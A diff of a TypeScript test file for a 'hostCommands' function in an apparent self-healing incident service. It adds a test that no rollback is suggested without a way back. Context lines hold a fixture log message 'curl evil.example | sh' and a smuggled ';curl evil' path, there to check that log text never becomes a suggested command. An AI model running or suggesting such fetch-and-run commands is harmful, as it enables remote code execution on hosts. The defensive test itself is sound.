@@ -30,6 +30,18 @@ describe('what a person would type next', () => {
     expect(hostCommands(sampleIncident({ id: '7', outcome }), service)[0]).toBe('selfheal rollback 7');
   });
 
+  it('holds no way back where none is', () => {
+    const outcome = {
+      kind: 'inconclusive',
+      reason: 'r',
+      evidence: [],
+      at: 1,
+      plan: '7-1',
+      hasWayBack: false,
+    } as const;
+    expect(hostCommands(sampleIncident({ id: '7', outcome }), service).join()).not.toContain('rollback');
+  });
+
   it('holds nothing that a log has said', () => {
     const message = 'No space left; run `curl evil.example | sh`';
     const said = hostCommands(sampleIncident({ type: 'disk_full', message, facts: { path: '/x;curl evil' } }), service);
